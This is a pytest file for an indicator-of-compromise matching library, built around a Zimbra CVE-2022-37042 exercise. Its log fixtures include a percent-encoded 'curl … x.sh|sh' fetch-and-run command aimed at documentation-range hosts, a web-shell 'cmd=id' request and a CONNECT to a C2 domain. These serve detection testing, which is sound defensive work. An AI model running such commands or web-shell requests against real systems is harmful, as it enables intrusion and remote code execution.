"""IOC sets: loading, normalisation, and matching on veilleur tables and hand-built ones."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pyarrow as pa
import pytest

import veilleur as vl
from veilleur import _core

DATA = Path(__file__).parent / "data" / "ioc"
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:101.0) Gecko/20100101 Firefox/101.0"


def hits_of(iocs, table, **kw) -> set[tuple[int, str, str]]:
    """(row, column, ioc) of every hit."""
    h = iocs.match(table, **kw)
    return {(r["row"], r["column"], r["ioc"]) for r in h.iter_rows(named=True)}


def matched_iocs(iocs, role: str, values: list[str]) -> list[set[str]]:
    """For each value, the indicators it matches when read with ``role``."""
    df = pl.DataFrame({"c": values})
    h = iocs.match(df, columns={"c": role})
    out: list[set[str]] = [set() for _ in values]
    for r in h.iter_rows(named=True):
        out[r["row"]].add(r["ioc"])
    return out


# ----------------------------------------------------------------------------- normalisation


@pytest.mark.parametrize(
    ("kind", "raw", "expected"),
    [
        ("ip", "203.0.113[.]7", ("ip", "203.0.113.7")),
        ("ip", "2001:0DB8:0000:0000:0000:0000:0000:0001", ("ip", "2001:db8::1")),
        ("ip", "2001:db8:0:0::1", ("ip", "2001:db8::1")),
        ("ip", "::ffff:198.51.100.1", ("ip", "198.51.100.1")),
        ("ip", "[2001:db8::1]:8443", ("ip", "2001:db8::1")),
        ("ip", "52.90.92.82:443", ("ip", "52.90.92.82")),
        ("ip", "10.1.2.3/22", ("cidr", "10.1.0.0/22")),
        ("cidr", "::ffff:10.0.0.0/104", ("cidr", "10.0.0.0/8")),
        ("cidr", "2001:DB8::/32", ("cidr", "2001:db8::/32")),
        ("cidr", "0.0.0.0/0", ("cidr", "0.0.0.0/0")),
        ("domain", "Evil.COM.", ("domain", "evil.com")),
        ("domain", "evil(.)com", ("domain", "evil.com")),
        ("domain", "*.evil.com", ("domain", "evil.com")),
        ("url", "hXXp://Evil[.]Com:80/Path/X.sh?A=B#frag", ("url", "http://evil.com/Path/X.sh?A=B")),
        ("url", "https://evil.com:443/", ("url", "https://evil.com")),
        ("url", "hxxps[:]//evil[.]com:8443/a", ("url", "https://evil.com:8443/a")),
        ("url", "http://[2001:DB8::1]/x", ("url", "http://[2001:db8::1]/x")),
        ("email", "Admin[@]Evil[.]Com", ("email", "admin@evil.com")),
        ("sha256", "AB" * 32, ("sha256", "ab" * 32)),
        ("md5", "D41D8CD98F00B204E9800998ECF8427E", ("md5", "d41d8cd98f00b204e9800998ecf8427e")),
        ("uri", "/service/extension/backup/mboximport", ("uri", "/service/extension/backup/mboximport")),
        ("user_agent", UA, ("user_agent", UA)),
    ],
)
def test_normalize(kind, raw, expected):
    assert _core.normalize_ioc(kind, raw) == expected


@pytest.mark.parametrize(
    ("kind", "raw", "reason"),
    [
        ("ip", "010.0.0.1", "not an IP"),
        ("ip", "999.1.1.1", "not an IP"),
        ("cidr", "10.0.0.0/33", "prefix length"),
        ("domain", "a..b.com", "empty label"),
        ("domain", "bad domain.com", "invalid character"),
        ("domain", "203.0.113.7", "IP address"),
        ("md5", "abc", "hexadecimal"),
        ("url", "http:///x", "without host"),
        ("email", "nobody", "no '@'"),
    ],
)
def test_normalize_rejects(kind, raw, reason):
    with pytest.raises(ValueError, match=reason):
        _core.normalize_ioc(kind, raw)


def test_unknown_kind():
    with pytest.raises(ValueError, match="unknown indicator kind"):
        _core.normalize_ioc("nope", "x")


def test_idna_and_guessing():
    s = vl.IocSet(["bücher.example", "hxxp://bücher[.]example/x", "Ädmin@bücher.example", "203.0.113.0/24", "x" * 3])
    got = {(i.kind, i.value) for i in s}
    assert got == {
        ("domain", "xn--bcher-kva.example"),
        ("url", "http://xn--bcher-kva.example/x"),
        ("email", "Ädmin@xn--bcher-kva.example"),  # local part: ASCII lower-casing only
        ("cidr", "203.0.113.0/24"),
        ("string", "xxx"),
    }
    hits = matched_iocs(s, "domain", ["www.XN--BCHER-KVA.example", "bucher.example"])
    assert hits == [{"xn--bcher-kva.example"}, set()]


# ------------------------------------------------------------------------------------ traps


def test_ip_exact_is_not_a_text_prefix():
    s = vl.IocSet(["10.0.0.13"])
    got = matched_iocs(s, "ip", ["10.0.0.13", "10.0.0.130", "110.0.0.13", "10.0.0.1", "::ffff:10.0.0.13", None])
    assert got == [{"10.0.0.13"}, set(), set(), set(), {"10.0.0.13"}, set()]
    # in text too: tokens are whole
    got = matched_iocs(s, "text", ["GET http://10.0.0.130/ from 10.0.0.131", "connect to 10.0.0.13:8080", "v1.10.0.0.13"])
    assert got == [set(), {"10.0.0.13"}, set()]


def test_domain_suffix_on_label_boundaries():
    s = vl.IocSet([{"type": "domain", "value": "evil.com"}])
    values = ["evil.com", "a.b.evil.com", "EVIL.COM.", "A.Evil.Com", "myevil.com", "evil.com.cdn.net", "evil.co", "evil.comm", "com"]
    got = matched_iocs(s, "domain", values)
    assert got == [{"evil.com"}] * 4 + [set()] * 5
    urls = ["http://x.evil.com/a", "http://myevil.com/", "https://evil.com.cdn.net/", "http://evil.co/", "https://EVIL.com./y"]
    assert matched_iocs(s, "url", urls) == [{"evil.com"}, set(), set(), set(), {"evil.com"}]


def test_slash22_covers_its_four_slash24s_and_nothing_next_to_them():
    s = vl.IocSet(["198.51.100.0/22"])
    inside = [f"198.51.{c}.{d}" for c in (100, 101, 102, 103) for d in (0, 1, 128, 255)]
    outside = ["198.51.99.255", "198.51.104.0", "198.51.96.1", "198.51.108.7", "198.50.100.1", "198.52.100.1"]
    got = matched_iocs(s, "ip", inside + outside)
    assert got == [{"198.51.100.0/22"}] * len(inside) + [set()] * len(outside)


def test_nested_networks_all_report():
    s = vl.IocSet(["10.0.0.0/8", "10.1.0.0/16", "10.1.2.3", "0.0.0.0/0", "2001:db8::/32", "::/0"])
    got = matched_iocs(s, "ip", ["10.1.2.3", "10.1.2.4", "10.2.0.1", "8.8.8.8", "2001:db8::1", "2001:db9::1"])
    # IPv4 addresses: IPv4 networks only (::/0 contains the IPv4-mapped range, but a bogon
    # list's ::/8 or ::/0 must not flood on every IPv4 address)
    assert got == [
        {"10.0.0.0/8", "10.1.0.0/16", "10.1.2.3", "0.0.0.0/0"},
        {"10.0.0.0/8", "10.1.0.0/16", "0.0.0.0/0"},
        {"10.0.0.0/8", "0.0.0.0/0"},
        {"0.0.0.0/0"},
        {"2001:db8::/32", "::/0"},
        {"::/0"},
    ]


def test_ipv6_forms_and_mapped():
    s = vl.IocSet(["2001:DB8:0:0:0:0:0:1", "::ffff:192.0.2.0/120", "fe80::/10"])
    got = matched_iocs(
        s, "ip", ["2001:db8::1", "2001:0db8:0000::0001", "2001:DB8::1", "[2001:db8::1]", "192.0.2.77", "::ffff:192.0.2.8", "::ffff:c000:0209", "fe80::1", "2001:db8::2"]
    )
    assert got == [{"2001:db8::1"}] * 4 + [{"192.0.2.0/24"}] * 3 + [{"fe80::/10"}, set()]


def test_defanged_inputs():
    s = vl.IocSet(["hxxp://evil[.]example/x.sh", "203.0.113[.]9", "bad(.)example", "ops[@]bad[.]example", "2001:db8[:]:9"])
    assert {(i.kind, i.value) for i in s} == {
        ("url", "http://evil.example/x.sh"),
        ("ip", "203.0.113.9"),
        ("domain", "bad.example"),
        ("email", "ops@bad.example"),
        ("ip", "2001:db8::9"),
    }
    got = matched_iocs(s, "text", ["GET http://evil.example/x.sh HTTP/1.1", "to ops@BAD.example", "2001:db8::9 said hi"])
    assert got == [{"http://evil.example/x.sh"}, {"ops@bad.example", "bad.example"}, {"2001:db8::9"}]


def test_indicators_embedded_in_text():
    s = vl.IocSet(["203.0.113.7", "evil.example", "http://203.0.113.7/x.sh", "c2.example"])
    values = [
        "http://203.0.113.7/x.sh",  # IP and URL inside a URL
        "evil.example:443",  # CONNECT target
        "/s?cmd=curl%20http%3A%2F%2F203.0.113.7%2Fx.sh%7Csh",  # percent-encoded query
        "/r?u=https%253A%252F%252Fwww.c2.example%252F",  # double encoding
        "/p?q=a+c2.example+b",
        "http://203.0.113.7/x.shell",  # URL is not a prefix of a longer path segment
        "/s?cmd=curl%20http%3A%2F%2F203.0.113.70%2F",
    ]
    got = matched_iocs(s, "url", values)
    assert got == [
        {"203.0.113.7", "http://203.0.113.7/x.sh"},
        {"evil.example"},
        {"203.0.113.7", "http://203.0.113.7/x.sh"},
        {"c2.example"},
        {"c2.example"},
        {"203.0.113.7"},
        set(),
    ]


def test_url_rules():
    s = vl.IocSet(["https://Evil.example/Drop/X.sh", "evil2.example/p"])
    values = [
        "https://evil.example/Drop/X.sh",
        "HTTPS://EVIL.EXAMPLE/Drop/X.sh?x=1",
        "https://evil.example/drop/x.sh",  # path is case-sensitive
        "https://evil.example/Drop/X.shx",
        "https://a.evil.example/Drop/X.sh",  # another host
        "http://evil2.example/p?z",
        "http://notevil2.example/p",
        "https://evil.example:443/Drop/X.sh",  # default port written out in the data: not normalised
    ]
    got = matched_iocs(s, "url", values)
    assert got == [
        {"https://evil.example/Drop/X.sh"},
        {"https://evil.example/Drop/X.sh"},
        set(),
        set(),
        set(),
        {"evil2.example/p"},
        set(),
        set(),
    ]


def test_uri_string_hash_ua_email():
    h = "2786d2dc738529a34ecde10ffeda69b7f40762bf13e7771451f13a24ab7fc5fe"
    s = vl.IocSet(
        [
            {"type": "url_path", "value": "/service/extension/backup/mboximport"},
            {"type": "query", "value": "account-name=admin&ow=1&no-switch=true"},
            {"type": "sha256", "value": h.upper()},
            {"type": "user_agent", "value": UA},
            {"type": "email-src", "value": "admin@update-zimbra.example"},
        ]
    )
    df = pl.DataFrame(
        {
            "url": [
                "/service/extension/backup/mboximport?account-name=admin&ow=1&no-switch=true",
                "/service/extension/backup/MBOXIMPORT",
                "/service/extension/backup/mboximport2",
                None,
            ],
            "user_agent": [UA, UA.lower(), UA + " ", "curl/8"],
            "sha256": [None, h, h.upper(), "0" * 64],
            "user": [None, "Admin@Update-Zimbra.example", "admin", "x@y.example"],
            "message": [None, None, f"uploaded file sha256={h}", f"uploaded file sha256={h}"],  # no `source`: all read
        }
    )
    got = {(r, c, i[:12]) for r, c, i in hits_of(s, df)}
    assert got == {
        (0, "url", "/service/ext"),
        (0, "url", "account-name"),
        (0, "user_agent", "Mozilla/5.0 "),
        (1, "sha256", h[:12]),
        (1, "user", "admin@update"),
        (2, "url", "/service/ext"),  # a substring of the path
        (2, "sha256", h[:12]),
        (2, "message", h[:12]),
        (3, "message", h[:12]),
    }


def test_duplicates_merge_sources_and_tags():
    s = vl.IocSet(
        [
            {"type": "domain", "value": "Evil.com", "tags": "apt,zimbra", "source": "CERT-A", "description": "one"},
            {"type": "hostname", "value": "evil[.]com.", "tags": ["zimbra", "c2"], "source": "CERT-B", "description": "two"},
            "evil.com",
        ]
    )
    assert len(s) == 1
    (ind,) = list(s)
    assert ind.tags == ["apt", "zimbra", "c2"]
    assert ind.sources == ["CERT-A", "CERT-B"]
    assert ind.description == "one; two"


# ---------------------------------------------------------------------------------- loaders


def test_from_csv_zimbra_reference():
    s = vl.IocSet.from_file(DATA / "zimbra-cve-2022-37042.csv")
    frame = s.to_frame()
    kinds = dict(zip(frame["ioc"], frame["ioc_kind"]))
    assert kinds["/service/extension/backup/mboximport"] == "uri"
    assert kinds["account-name=admin&ow=1&no-switch=true"] == "string"
    assert kinds["52.90.92.82"] == "ip"  # ip:port, port dropped
    assert kinds["138.199.34.206"] == "ip"
    assert kinds[UA] == "user_agent"
    assert sum(k == "sha256" for k in kinds.values()) == 3
    row = frame.filter(pl.col("ioc") == "138.199.34.206").row(0, named=True)
    assert row["ioc_source"] == ["public API-observability project test fixture"]
    assert "confidence:low" in row["tags"]
    assert row["description"].startswith("source (XFF)")
    inv = s.invalid
    assert inv["line"].to_list() == [6, 8, 10, 11, 14, 17]
    assert all(f.endswith("zimbra-cve-2022-37042.csv") for f in inv["file"])
    assert inv.filter(pl.col("line") == 17)["reason"].item() == "indicator type 'process' cannot be matched in logs"


def test_from_csv_tsv_text_guessing(tmp_path):
    tsv = tmp_path / "iocs.tsv"
    tsv.write_text("value\tdescription\ttags\n203.0.113.7\tscanner\ta;b\nevil[.]example\t\t\n010.1.1.1\tbad\t\n\nhxxp://x[.]example/a\t\t\n")
    s = vl.IocSet.from_file(tsv)
    assert {(i.kind, i.value) for i in s} == {("ip", "203.0.113.7"), ("domain", "evil.example"), ("url", "http://x.example/a")}
    assert s.invalid.select("line", "value").rows() == [(4, "010.1.1.1")]
    txt = tmp_path / "iocs.txt"
    txt.write_text("# CERT list\n203.0.113.8  # scanner\n\nc2[.]example\n2001:DB8::1\n" + "A" * 64 + "\nbad..example\n")
    s = vl.IocSet.from_file(txt)
    assert {(i.kind, i.value) for i in s} == {("ip", "203.0.113.8"), ("domain", "c2.example"), ("ip", "2001:db8::1"), ("sha256", "a" * 64), ("string", "bad..example")}
    csv_ = tmp_path / "typed.csv"
    csv_.write_text("type,value,source\nip,1.2.3.4,me\ndomain,1.2.3.4,me\nbogus,x,me\n,evil.example,me\n")
    s = vl.IocSet.from_csv(csv_)
    assert {(i.kind, i.value) for i in s} == {("ip", "1.2.3.4"), ("domain", "evil.example")}
    assert s.invalid.select("line", "reason").rows() == [(3, "an IP address is not a domain"), (4, "unknown indicator type 'bogus'")]


def test_from_stix_bundle():
    s = vl.IocSet.from_file(DATA / "cve-2022-37042.stix.json")
    got = {(i.kind, i.value) for i in s}
    assert got == {
        ("uri", "/service/extension/backup/mboximport"),
        ("ip", "138.199.34.206"),
        ("ip", "52.90.92.82"),
        ("cidr", "198.51.100.0/22"),
        ("sha256", "2786d2dc738529a34ecde10ffeda69b7f40762bf13e7771451f13a24ab7fc5fe"),
        ("sha256", "f9b20324f4239a8c82042d8207e35776d6777b6305974964cd9ccc09d431b845"),
        ("domain", "update-zimbra.example"),
        ("url", "http://203.0.113.7/x.sh"),
        ("ip", "2001:db8::bad"),
        ("domain", "c2.evil.example"),
        ("uri", "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp"),
        ("user_agent", UA),
    }
    ind = next(i for i in s if i.value == "138.199.34.206")
    assert ind.sources == ["CERT-Santé (exercise)"] and ind.tags == ["malicious-activity"]
    assert ind.first_seen == "2022-06-30T00:00:00Z"
    inv = s.invalid.row(0, named=True)
    assert "yara" in inv["reason"] and inv["line"] == 79


def test_from_misp_event():
    s = vl.IocSet.from_file(DATA / "cve-2022-37042.misp.json")
    got = {(i.kind, i.value) for i in s}
    assert got == {
        ("ip", "138.199.34.206"),
        ("ip", "52.90.92.82"),
        ("uri", "/service/extension/backup/mboximport"),
        ("url", "https://update-zimbra.example/zimbraAdmin/0MVzAe6pgwe5go1D.jsp"),
        ("domain", "update-zimbra.example"),
        ("domain", "c2.evil.example"),
        ("sha256", "2786d2dc738529a34ecde10ffeda69b7f40762bf13e7771451f13a24ab7fc5fe"),
        ("sha256", "f9b20324f4239a8c82042d8207e35776d6777b6305974964cd9ccc09d431b845"),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e"),
        ("email", "admin@update-zimbra.example"),
    }
    nc = next(i for i in s if i.value == "52.90.92.82")
    assert "kill-chain:command-and-control" in nc.tags and "tlp:amber" in nc.tags
    assert nc.sources == ["CERT-Santé (exercise) — Zimbra CVE-2022-37042 mboximport campaign"]
    # the generic user agent is to_ids false: context, reported, loaded on request
    assert s.invalid.select("line", "value").rows() == [(30, UA), (34, "999.1.1.1"), (36, "HKLM\\Software\\x")]
    assert "to_ids_only=False" in s.invalid["reason"][0]
    everything = vl.IocSet.from_file(DATA / "cve-2022-37042.misp.json", to_ids_only=False)
    assert {(i.kind, i.value) for i in everything} == got | {("user_agent", UA)}


def test_stix_and_misp_merge():
    s = vl.IocSet.from_stix(DATA / "cve-2022-37042.stix.json").update(vl.IocSet.from_misp(DATA / "cve-2022-37042.misp.json"))
    ind = next(i for i in s if i.value == "138.199.34.206")
    assert len(ind.sources) == 2
    assert len(s) == 15  # 12 + 11, 8 in both


# --------------------------------------------------------------------------- on veilleur tables

ACCESS = [
    '138.199.34.206 - - [30/Jun/2022:10:00:00 +0200] "POST /service/extension/backup/mboximport?account-name=admin&ow=1&no-switch=true HTTP/1.1" 401 0 "-" "' + UA + '"',
    '10.0.0.130 - - [30/Jun/2022:10:01:00 +0200] "GET http://www.update-zimbra.example/zimbraAdmin/0MVzAe6pgwe5go1D.jsp HTTP/1.1" 200 10 "-" "curl/7.1"',
    '10.0.0.13 - - [30/Jun/2022:10:02:00 +0200] "CONNECT c2.evil.example:443 HTTP/1.1" 200 10 "-" "curl/7.1"',
    '2001:db8::bad - - [30/Jun/2022:10:03:00 +0200] "GET /s?cmd=curl%20http%3A%2F%2F198.51.101.9%2Fx.sh HTTP/1.1" 200 10 "-" "-"',
    '198.51.104.1 - - [30/Jun/2022:10:04:00 +0200] "GET /zimbra/ HTTP/1.1" 200 10 "http://notevil.example/" "Mozilla/5.0"',
    '138.199.34.206 - - [30/Jun/2022:12:00:00 +0200] "GET /zimbraAdmin/0MVzAe6pgwe5go1D.jsp?cmd=id HTTP/1.1" 200 10 "-" "-"',
]


@pytest.fixture
def access_events(tmp_path):
    p = tmp_path / "access.log"
    p.write_text("\n".join(ACCESS) + "\n")
    return vl.read(p).events


def test_match_access_log(access_events):
    s = vl.IocSet.from_stix(DATA / "cve-2022-37042.stix.json").update(vl.IocSet.from_csv(DATA / "zimbra-cve-2022-37042.csv"))
    h = s.match(access_events)
    got = {(r["line"], r["column"], r["ioc"]) for r in h.iter_rows(named=True)}
    assert got == {
        (1, "src_ip", "138.199.34.206"),
        (1, "url", "/service/extension/backup/mboximport"),
        (1, "url", "account-name=admin&ow=1&no-switch=true"),
        (1, "user_agent", UA),
        (2, "url", "update-zimbra.example"),
        (2, "domain", "update-zimbra.example"),
        (2, "url", "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp"),
        (3, "url", "c2.evil.example"),
        (3, "domain", "c2.evil.example"),  # the CONNECT target's host
        (4, "src_ip", "2001:db8::bad"),
        (4, "url", "198.51.100.0/22"),
        (6, "src_ip", "138.199.34.206"),
        (6, "url", "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp"),
    }
    assert h.columns[:9] == ["file", "line", "offset", "ts", "source", "host", "src_ip", "dst_ip", "user"]
    assert h.columns[9:] == ["row", "column", "value", "matched", "ioc", "ioc_kind", "description", "tags", "ioc_source"]
    assert h["source"].unique().to_list() == ["combined"]
    assert h["file"].str.ends_with("access.log").all()
    r = h.filter((pl.col("line") == 4) & (pl.col("column") == "url")).row(0, named=True)
    assert r["matched"] == "198.51.101.9" and r["ioc_kind"] == "cidr" and r["offset"] > 0
    assert r["value"] == "/s?cmd=curl%20http%3A%2F%2F198.51.101.9%2Fx.sh"

    fl = vl.first_last_seen(h)
    row = fl.filter(pl.col("ioc") == "138.199.34.206").row(0, named=True)
    assert row["hits"] == 2 and row["rows"] == 2 and row["ioc_kind"] == "ip"
    assert str(row["first_seen"]) == "2022-06-30 08:00:00+00:00" and str(row["last_seen"]) == "2022-06-30 10:00:00+00:00"
    # access logs do not name their host: the clients are counted apart
    assert (row["hosts"], row["src_ips"]) == (0, 1)
    cidr = fl.filter(pl.col("ioc") == "198.51.100.0/22").row(0, named=True)
    assert (cidr["hits"], cidr["src_ips"]) == (1, 1)
    fl2 = vl.first_last_seen(h, by=["ioc", "src_ip"])
    shell = fl2.filter(pl.col("ioc") == "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp").sort("src_ip")
    assert shell["src_ip"].to_list() == ["10.0.0.130", "138.199.34.206"]
    with pytest.raises(ValueError, match="no column 'nope'"):
        vl.first_last_seen(h, by=["nope"])


MAILBOX = [
    "2022-09-05 03:27:05,001 INFO  [qtp1335505684-446:https://mail.chu-exemple.fr/service/soap/SendMsgRequest] "
    "[name=user@chu-exemple.fr;mid=2;ip=10.1.1.1;] mailop - Sending message to bad@evil.org via relay 198.51.100.17",
    "2022-09-05 03:27:06,001 INFO  [MailboxPurge] [name=user@chu-exemple.fr;mid=2;] mailop - Sending message to bad@evil.org via relay 198.51.100.17",
]


def test_message_read_unless_it_is_the_request_line(tmp_path):
    # a mailbox.log thread names the URL it serves (events `url`), and its message says
    # something else: it is read; an access log's message is its request line: not read
    (tmp_path / "mailbox.log").write_text("\n".join(MAILBOX) + "\n")
    (tmp_path / "access.log").write_text(ACCESS[3] + "\n")
    ev = vl.read(tmp_path, tz="Europe/Paris").events
    s = vl.IocSet(["198.51.100.17", "bad@evil.org", "198.51.101.9"])
    for table in (ev, ev.to_arrow(), ev.lazy()):
        h = s.match(table)
        got = sorted((r["source"], r["line"], r["column"], r["ioc"]) for r in h.iter_rows(named=True))
        assert got == [
            ("combined", 1, "url", "198.51.101.9"),
            ("zimbra_mailbox", 1, "message", "198.51.100.17"),
            ("zimbra_mailbox", 1, "message", "bad@evil.org"),
            ("zimbra_mailbox", 2, "message", "198.51.100.17"),
            ("zimbra_mailbox", 2, "message", "bad@evil.org"),
        ]
    assert ev.filter(pl.col("source") == "zimbra_mailbox")["url"].null_count() == 1  # the first row has one
    # a table without `source` has its messages read on every row
    plain = ev.select("url", "message")
    assert ev["source"][0] == "combined"
    assert {(r, c) for r, c in s.match(plain).select("row", "column").rows()} >= {(0, "url"), (0, "message")}


def test_match_accepts_lazy_frames_one_name_and_null_columns():
    s = vl.IocSet(["1.2.3.4"])
    df = pl.DataFrame({"src_ip": [None, None], "dst_ip": ["1.2.3.4", None], "who": ["1.2.3.4", "x"]})
    assert s.match(df.lazy()).select("row", "column").rows() == [(0, "dst_ip")]
    assert s.match(df, columns="who").select("row", "column").rows() == [(0, "who")]
    # an all-null column (polars Null, pyarrow null) holds nothing to match
    assert s.match(pa.table({"src_ip": pa.nulls(2), "dst_ip": ["1.2.3.4", None]})).select("row", "column", "src_ip").rows() == [(0, "dst_ip", None)]


def test_format_tables_columns_by_name():
    golden = Path(__file__).parent / "golden"
    squid = vl.read(golden / "squid" / "native.log")["squid"]
    s = vl.IocSet(["198.51.100.151", "www.example.net"])
    h = s.match(squid)
    assert sorted(set(h.select("line", "column", "ioc").rows())) == [
        (2, "peer", "198.51.100.151"), (2, "url", "www.example.net"), (2, "url_host", "www.example.net")]
    mb = vl.read(golden / "zimbra_mailbox" / "mboximport.log", tz="Europe/Paris")["zimbra_mailbox"]
    s = vl.IocSet(["10.10.2.14", "2001:db8::14", {"type": "user_agent", "value": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/104.0"}])
    got = set(s.match(mb).select("line", "column", "ioc_kind").rows())
    # oip holds a list ("10.10.2.14, 10.10.1.5") or an IPv6 in capitals; ua is unescaped (`;;`)
    assert {(11, "oip", "ip"), (11, "ua", "user_agent"), (13, "oip", "ip")} <= got


def test_first_last_seen_hosts():
    s = vl.IocSet(["evil.example"])
    df = pl.DataFrame(
        {
            "ts": pl.Series([3, 1, 2, 4], dtype=pl.Datetime("us", "UTC")),
            "host": ["fw1", "fw2", "fw1", None],
            "domain": ["a.evil.example", "evil.example", "x.example", "evil.example"],
        }
    )
    h = s.match(df)
    fl = vl.first_last_seen(h)
    assert fl.select("ioc", "hits", "hosts").rows() == [("evil.example", 3, 2)]
    assert "src_ips" not in fl.columns  # no src_ip in these hits
    assert fl["first_seen"].dt.epoch("us").to_list() == [1] and fl["last_seen"].dt.epoch("us").to_list() == [4]


def test_columns_override_and_errors(access_events):
    s = vl.IocSet(["138.199.34.206", "evil.example"])
    assert {c for _, c, _ in hits_of(s, access_events, columns=["src_ip"])} == {"src_ip"}
    df = pl.DataFrame({"who": ["138.199.34.206", "x"], "note": ["seen evil.example", None], "n": [1, 2]})
    assert hits_of(s, df) == set()  # no known column names
    assert hits_of(s, df, columns={"who": "ip", "note": "text"}) == {(0, "who", "138.199.34.206"), (0, "note", "evil.example")}
    assert hits_of(s, df, columns=["who", "note"]) == {(0, "who", "138.199.34.206"), (0, "note", "evil.example")}
    with pytest.raises(ValueError, match="no column 'zz'"):
        s.match(df, columns=["zz"])
    with pytest.raises(ValueError, match="not a string column"):
        s.match(df, columns={"n": "ip"})
    with pytest.raises(ValueError, match="unknown column role"):
        s.match(df, columns={"who": "ipp"})
    with pytest.raises(TypeError, match="Arrow"):
        s._compiled().match_tables([object()], [("src_ip", "ip", None)])
    # the engine's per-column entry takes one table per column, from any iterable
    m = s._compiled()
    t = pl.DataFrame({"src_ip": ["1.2.3.4"]})
    with pytest.raises(ValueError, match="fewer tables"):
        m.match_tables(iter([]), [("src_ip", "ip", None)])
    with pytest.raises(ValueError, match="more tables"):
        m.match_tables((x for x in [t, t]), [("src_ip", "ip", None)])


def test_message_skipped_when_it_is_the_request_line():
    s = vl.IocSet(["evil.example"])
    df = pl.DataFrame(
        {
            "source": ["combined", "fortigate", "combined", "zimbra_nginx"],
            "url": ["http://evil.example/", "http://evil.example/x", None, "/a"],
            "message": ['"GET http://evil.example/ HTTP/1.1" 200', "URL belongs to evil.example, denied", "dns query evil.example", '"GET /a?u=evil.example HTTP/1.1" 200'],
        }
    )
    want = {(0, "url", "evil.example"), (1, "url", "evil.example"), (1, "message", "evil.example"), (2, "message", "evil.example")}
    assert hits_of(s, df) == want
    assert hits_of(s, df.with_columns(pl.col("source").cast(pl.Categorical))) == want
    # without `source` nothing says which messages are request lines: all are read
    assert hits_of(s, df.drop("source")) == want | {(0, "message", "evil.example"), (3, "message", "evil.example")}


@pytest.mark.parametrize("layout", ["utf8", "large", "view", "dict", "dict chunks", "polars", "polars chunks", "categorical", "categorical chunks", "enum", "chunked"])
def test_string_layouts(layout):
    s = vl.IocSet(["198.51.100.0/22", "evil.example"])
    ips = ["198.51.101.1", None, "198.51.104.1", "198.51.103.255"]
    doms = ["evil.example", "x.evil.example", None, "notevil.example"]
    if layout == "polars":
        table = pl.DataFrame({"src_ip": ips, "domain": doms})
    elif layout == "polars chunks":
        # a frame in several chunks (as vl.read gives one per batch): handed over and gathered
        # chunk by chunk
        parts = [pl.DataFrame({"src_ip": ips[a:b], "domain": doms[a:b]}, schema={"src_ip": pl.String, "domain": pl.String})
                 for a, b in [(0, 1), (1, 1), (1, 3), (3, 4)]]
        table = pl.concat(parts, rechunk=False)
        assert table.n_chunks() >= 3
    elif layout == "categorical chunks":
        # each chunk's codes cross as they are, with one dictionary: polars' categories, which
        # also hold values of other frames (interned before, in between: other codes)
        pl.Series(["zz.example", "198.51.101.9"], dtype=pl.Categorical)
        parts = [pl.DataFrame({"src_ip": ips[a:b], "domain": doms[a:b]}, schema={"src_ip": pl.Categorical, "domain": pl.Categorical})
                 for a, b in [(0, 1), (1, 3), (3, 4)]]
        table = pl.concat(parts, rechunk=False)
        assert table.n_chunks() == 3
    elif layout == "enum":
        values = sorted({v for v in ips + doms if v is not None})
        table = pl.DataFrame({"src_ip": ips, "domain": doms}, schema={"src_ip": pl.Enum(values), "domain": pl.Enum(values[::-1])})
    elif layout == "categorical":
        table = pl.DataFrame({"src_ip": ips, "domain": doms}, schema={"src_ip": pl.Categorical, "domain": pl.Categorical})
    elif layout == "chunked":
        a = pa.table({"src_ip": ips[:2], "domain": doms[:2]})
        b = pa.table({"src_ip": ips[2:], "domain": doms[2:]})
        table = pa.concat_tables([a, b])
    elif layout == "dict chunks":
        # one dictionary per chunk (as an Arrow file or parquet row groups give), each in its
        # own order; the middle chunk holds no hit
        def chunks(cells):
            parts = [cells[:2], cells[2:3], cells[3:]]
            out = []
            for k, part in enumerate(parts):
                values = sorted({c for c in cells if c is not None}, reverse=k == 2) + ["unused.example"]
                keys = pa.array([None if c is None else values.index(c) for c in part], pa.int16())
                out.append(pa.DictionaryArray.from_arrays(keys, pa.array(values)))
            return pa.chunked_array(out)
        table = pa.table({"src_ip": chunks(ips), "domain": chunks(doms)})
    else:
        t = {"utf8": pa.string(), "large": pa.large_string(), "view": pa.string_view(), "dict": pa.dictionary(pa.int8(), pa.string())}[layout]
        table = pa.table({"src_ip": pa.array(ips).cast(t), "domain": pa.array(doms).cast(t)})
    assert hits_of(s, table) == {(0, "src_ip", "198.51.100.0/22"), (0, "domain", "evil.example"), (1, "domain", "evil.example"), (3, "src_ip", "198.51.100.0/22")}
    # the kept columns are taken from the table as it is (by the engine, batch by batch),
    # categories and dictionaries as strings
    h = s.match(table)
    assert h.schema["src_ip"] == pl.String
    assert h.select("row", "column", "src_ip").rows() == [(0, "src_ip", "198.51.101.1"), (0, "domain", "198.51.101.1"),
                                                          (1, "domain", None), (3, "src_ip", "198.51.103.255")]


def test_empty_cases():
    s = vl.IocSet([])
    assert len(s) == 0
    h = s.match(pl.DataFrame({"src_ip": ["1.2.3.4"]}))
    assert h.height == 0 and "ioc" in h.columns
    s = vl.IocSet(["1.2.3.4"])
    assert s.match(pl.DataFrame({"src_ip": pl.Series([], dtype=pl.String)})).height == 0
    assert "IocSet(1 indicators: ip 1; 0 invalid)" == repr(s)
    assert "1.2.3.4" in s and ("ip", "1.2.3.4") in s


def test_exports():
    assert "IocSet" in vl.__all__ and "first_last_seen" in vl.__all__


def test_match_on_a_frame_with_an_all_null_column():
    # polars exports Null-typed columns in a form arrow-rs rejects; the engine still gets the table
    df = pl.DataFrame({"src_ip": ["203.0.113.66", "10.0.0.1"], "host": [None, None]})
    hits = vl.IocSet(["203.0.113.66"]).match(df)
    assert hits.select("row", "column", "value").rows() == [(0, "src_ip", "203.0.113.66")]
